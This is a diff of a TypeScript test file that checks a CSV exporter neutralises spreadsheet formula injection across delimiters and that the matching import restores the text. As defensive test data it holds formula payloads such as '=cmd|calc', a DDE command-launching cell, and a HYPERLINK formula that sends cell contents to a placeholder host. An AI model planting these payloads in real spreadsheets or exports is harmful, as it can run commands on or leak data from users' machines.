@@ -1,6 +1,8 @@
+import { parse as parseAs } from 'csv-parse/sync';
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import type { Api } from '../../../src/app/api/client';
+import { unescapeFormulas } from '../../../src/contract/imports';
 import { formatLines } from '../../../src/server/csv';
 import { addPlayer, deposit, redeem, topUp } from '../../seed';
 import { as, pam, pat, people, refusal, refused, reset, send, services, smallServer, sql, tokenOf } from '../../world';
@@ -160,11 +162,32 @@ test('no cell starts a formula, whatever precedes it, and a negative amount stay
   ];
   for (const text of formulas) {
     const [[cell] = []] = parse(formatLines([[text]]));
-    assert.is(cell, text.startsWith('"') ? text : `'${text}`);
+    assert.is(cell, text.startsWith('"') ? text : text.replace(/^([\t\r\n])=/, "$1'=").replace(/^(?!")/, "'"));
   }
-  assert.is(formatLines([[{ raw: '-100.00' }, 'a;=1', null, '', undefined, 'plain']]), '-100.00,"a;=1",,,,"plain"\r\n');
+  assert.is(
+    formatLines([[{ raw: '-100.00' }, 'a;=1', null, '', undefined, 'plain']]),
+    '-100.00,"a;\'=1",,,,"plain"\r\n',
+  );
   await sql`update redeems set payout_address = '=cmd|calc' where id = ${pam.redeem}`;
   assert.is((await read(await ann.exportRedeems())).rows[0]?.[5], "'=cmd|calc");
+});
+
+test('whatever a spreadsheet takes for the separator, no cell starts a formula, and the import reads the text as it was', () => {
+  for (const text of [
+    'x;=HYPERLINK("http://x?"&A1);y',
+    "x;=cmd|'/c calc'!A0;y",
+    'x\t=1',
+    'x\r\n\t@1',
+    'x; ＋1',
+    '=1;-1',
+    "it's",
+  ]) {
+    const line = formatLines([[{ raw: '1' }, text]]);
+    for (const delimiter of [',', ';', '\t'])
+      for (const cell of parseAs(line, { delimiter, relax_quotes: true, relax_column_count: true }).flat() as string[])
+        assert.not.match(cell.normalize('NFKC'), /^[\s"]*[=+\-@]/, `${delimiter} ${cell}`);
+    assert.is(unescapeFormulas(parse(line)[0]?.[1] ?? ''), text);
+  }
 });
 
 test('a file has what the list has under the same filters, in the same order, over all of its pages', async () => {
